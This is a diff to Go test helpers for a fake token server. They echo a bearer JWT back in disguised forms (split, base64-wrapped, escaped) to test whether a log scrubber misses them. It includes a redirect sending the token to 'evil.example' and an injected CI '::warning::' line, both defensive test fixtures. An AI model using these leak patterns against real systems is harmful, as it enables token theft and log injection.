@@ -8,12 +8,16 @@ import (
 	"crypto/rand"
 	"crypto/rsa"
 	"crypto/tls"
+	"encoding/base64"
 	"encoding/hex"
 	"encoding/json"
+	"fmt"
 	"maps"
 	"net"
 	"net/http"
 	"net/http/httptest"
+	"net/url"
+	"regexp"
 	"strconv"
 	"strings"
 	"sync"
@@ -195,6 +199,56 @@ const (
 	EchoBad200 = "echo200" // 200 with a truncated body that contains the minted token
 )
 
+// Hostile echoes of the bearer JWT in the forms a log scrubber must see through.
+const (
+	EchoSplit    = "403split"    // the JWT split over two lines of the message
+	EchoWrapped  = "403b64"      // the JWT base64-encoded and wrapped at 76 columns
+	EchoJSONEsc  = "403jsonesc"  // every character of the JWT as a literal \uXXXX escape
+	EchoURLEsc   = "403urlesc"   // every character of the JWT %-escaped, with %0A splits
+	EchoLocation = "302location" // a redirect whose Location carries the JWT with %0A inside
+	EchoMixed    = "403mixed"    // pieces of the JWT in a JSON "details" array and the message
+)
+
+// HostileEchoes lists every echo behaviour, for batteries that run them all.
+var HostileEchoes = []string{EchoDeny, EchoCut, EchoSplit, EchoWrapped, EchoJSONEsc, EchoURLEsc, EchoLocation, EchoMixed}
+
+func hostileEcho(w http.ResponseWriter, step, bearer string) {
+	half := len(bearer) / 2
+	switch step {
+	case EchoSplit:
+		grpcErr(w, http.StatusForbidden, 7, "bad token "+bearer[:half]+"\n"+bearer[half:])
+	case EchoWrapped:
+		b := base64.StdEncoding.EncodeToString([]byte("Authorization: Bearer " + bearer))
+		var lines []string
+		for len(b) > 76 {
+			lines, b = append(lines, b[:76]), b[76:]
+		}
+		grpcErr(w, http.StatusForbidden, 7, "request dump:\n"+strings.Join(append(lines, b), "\n"))
+	case EchoJSONEsc:
+		var e strings.Builder
+		for _, r := range bearer {
+			fmt.Fprintf(&e, `\\u%04x`, r)
+		}
+		w.Header().Set("Content-Type", "application/json")
+		w.WriteHeader(http.StatusForbidden)
+		_, _ = fmt.Fprintf(w, `{"code":7,"message":"token \"%s\" refused","details":[]}`, e.String())
+	case EchoURLEsc:
+		var e strings.Builder
+		for i := 0; i < len(bearer); i++ {
+			if i > 0 && i%30 == 0 {
+				e.WriteString("%0A")
+			}
+			fmt.Fprintf(&e, "%%%02X", bearer[i])
+		}
+		grpcErr(w, http.StatusForbidden, 7, "see https://proxy.example/?t="+e.String())
+	case EchoLocation:
+		w.Header().Set("Location", "https://evil.example/callback?t="+url.QueryEscape(bearer[:half])+"%0A"+url.QueryEscape(bearer[half:]))
+		w.WriteHeader(http.StatusFound)
+	case EchoMixed:
+		writeJSON(w, http.StatusForbidden, map[string]any{"code": 7, "message": "denied for " + bearer[10:60] + " / " + bearer[len(bearer)-45:], "details": []any{bearer}})
+	}
+}
+
 // STS fakes an Octo STS server over TLS on loopback. It verifies the bearer JWT, the audience, the
 // scope and the identity like the real server, then follows its script.
 type STS struct {
@@ -329,6 +383,8 @@ func (s *STS) serve(w http.ResponseWriter, r *http.Request) {
 		grpcErr(w, http.StatusForbidden, 7, "bad token "+bearer+"\n::warning::injected "+bearer)
 	case EchoCut:
 		grpcErr(w, http.StatusForbidden, 7, strings.Repeat("x", 1000)+bearer)
+	case EchoSplit, EchoWrapped, EchoJSONEsc, EchoURLEsc, EchoLocation, EchoMixed:
+		hostileEcho(w, step, bearer)
 	case NotFound:
 		answer(w, policy.CodePolicyNotFound, identity)
 	case RateLimit:
@@ -500,6 +556,66 @@ func (c *Clock) Sleeps() []time.Duration {
 	defer c.mu.Unlock()
 	return append([]time.Duration(nil), c.sleeps...)
 }
+
+// StatelessToken is a GitHub installation token in the ~520-character stateless format
+// (ghs_<app id>_<JWT>, with '.', '_' and '-'), deterministic so tests can compare it.
+func StatelessToken() string {
+	seg := func(n int, seed byte) string {
+		b := make([]byte, n)
+		for i := range b {
+			b[i] = seed + byte(i*7)
+		}
+		return base64.RawURLEncoding.EncodeToString(b)
+	}
+	tok := "ghs_123456_" + seg(27, 0xfb) + "." + seg(250, 0xf0) + "." + seg(90, 0xfe)
+	for len(tok) < 520 {
+		tok += "-"
+	}
+	return tok[:520]
+}
+
+// Recoverable returns a piece of secret (RunLen-long, 20 characters) that can be read out of
+// text, raw or after undoing JSON escapes, URL escapes, line breaks or base64 — or "" when there
+// is none. It is deliberately independent of package secret's scrubber, to test it.
+func Recoverable(text, secret string) string {
+	const runLen = 20
+	views := []string{text, strings.NewReplacer("\n", "", "\r", "").Replace(text)}
+	if u, err := url.PathUnescape(text); err == nil {
+		views = append(views, u, strings.NewReplacer("\n", "", "\r", "").Replace(u))
+	}
+	views = append(views, jsonUnicode.ReplaceAllStringFunc(text, func(m string) string {
+		n, _ := strconv.ParseUint(m[2:], 16, 32)
+		return string(rune(n))
+	}))
+	// base64: every run of base64 characters (line breaks removed), decoded at each alignment.
+	joined := strings.NewReplacer("\n", "", "\r", "", " ", "").Replace(text)
+	for _, run := range base64Run.FindAllString(joined, -1) {
+		run = strings.TrimRight(run, "=")
+		for off := 0; off < 4 && off < len(run); off++ {
+			r := run[off:]
+			r = r[:len(r)/4*4]
+			for _, enc := range []*base64.Encoding{base64.StdEncoding, base64.URLEncoding} {
+				if b, err := enc.DecodeString(r); err == nil {
+					views = append(views, string(b))
+				}
+			}
+		}
+	}
+	for i := 0; i+runLen <= len(secret); i++ {
+		piece := secret[i : i+runLen]
+		for _, v := range views {
+			if strings.Contains(v, piece) {
+				return piece
+			}
+		}
+	}
+	return ""
+}
+
+var (
+	jsonUnicode = regexp.MustCompile(`\\u[0-9a-fA-F]{4}`)
+	base64Run   = regexp.MustCompile(`[A-Za-z0-9+/_=-]{24,}`)
+)
 
 // grpcCodes maps an HTTP status back to the gRPC code grpc-gateway puts in the body.
 var grpcCodes = map[int]int{400: 3, 401: 16, 403: 7, 404: 5, 429: 8, 500: 13, 503: 14, 504: 4}
